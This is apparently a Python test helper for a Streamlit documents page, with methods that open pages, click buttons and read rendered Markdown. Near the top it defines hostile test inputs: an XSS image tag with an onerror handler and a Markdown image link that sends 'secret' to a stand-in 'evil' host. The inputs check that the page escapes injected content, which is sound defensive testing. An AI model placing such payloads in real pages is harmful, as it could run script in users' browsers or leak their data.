"""A page of documents under AppTest: opening, pressing, reading what is on it."""

from __future__ import annotations

import json
import time
from collections.abc import Sequence
from typing import Any

from streamlit.testing.v1 import AppTest

from core import jobs
from tests.pages.conftest import ROOT

IMAGE = "<img src=x onerror=alert(1)>"
LINK = "![x](https://evil/?q=secret)"
HOSTILE = f"{IMAGE} {LINK} $x$ **bold** :red[red]"


class DocumentsPage:
    """One page of the section."""

    def __init__(self, name: str, *, state: dict[str, Any] | None = None, **query: str) -> None:
        self.app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
        for key, value in (state or {}).items():
            self.app.session_state[key] = value
        self.app.run()
        self.app.switch_page(f"pages/documents/{name}.py")
        for key, value in query.items():
            self.app.query_params[key] = value
        self.run()

    def run(self) -> None:
        """Draw the page anew."""
        self.app.run()
        assert not self.app.exception, self.app.exception

    def click(self, key: str) -> None:
        """Press the button whose key is, or begins with, `key`."""
        next(each for each in self.app.button if each.key and each.key.startswith(key)).click()
        self.run()

    def set(self, key: str, value: Any) -> None:
        """Give a widget a value."""
        self.app.get_by_key(key).set_value(value)
        self.run()

    def has(self, key: str) -> bool:
        """Whether there is a button whose key begins with `key`."""
        return any(each.key and each.key.startswith(key) for each in self.app.button)

    def query(self, name: str) -> str:
        """A query parameter."""
        value = self.app.query_params[name]
        return value[0] if isinstance(value, list) else value

    def errors(self) -> list[str]:
        """Every error, as it reads."""
        return [each.value.replace("\\", "") for each in self.app.error]

    def words(self) -> str:
        """Markdown, captions, headings, warnings and notes, as they read."""
        kinds = (self.app.markdown, self.app.caption, self.app.subheader, self.app.warning, self.app.info)
        return "\n".join(each.value.replace("\\", "") for kind in kinds for each in kind)

    def raw(self) -> list[str]:
        """Everything that Streamlit reads as Markdown, as it is sent."""
        kinds = (
            self.app.markdown,
            self.app.caption,
            self.app.subheader,
            self.app.warning,
            self.app.info,
            self.app.error,
        )
        return [each.value for kind in kinds for each in kind]

    def component(self, key: str) -> dict[str, Any]:
        """Data of the component whose key begins with `key`."""
        for node in self.app.main.children.values():
            if (found := _found(node, key)) is not None:
                return found
        raise AssertionError(f"no component {key}")


def _found(node: Any, key: str) -> dict[str, Any] | None:
    proto = getattr(node, "proto", None)
    if type(proto).__name__ == "BidiComponent" and f"-{key}" in proto.id:
        return dict(json.loads(proto.json))
    for child in getattr(node, "children", {}).values():
        if (found := _found(child, key)) is not None:
            return found
    return None


def wait_for_jobs() -> list[jobs.JobView]:
    """Every job, once all have ended."""
    deadline = time.monotonic() + 120
    while any(each.active for each in jobs.list_jobs()):
        assert time.monotonic() < deadline, jobs.list_jobs()
        time.sleep(0.1)
    return jobs.list_jobs()


def live_in_markdown(texts: Sequence[str], words: str) -> list[str]:
    """Those of `texts` in which `words` would take effect: they are there as they are, not escaped."""
    return [text for text in texts if words in text]
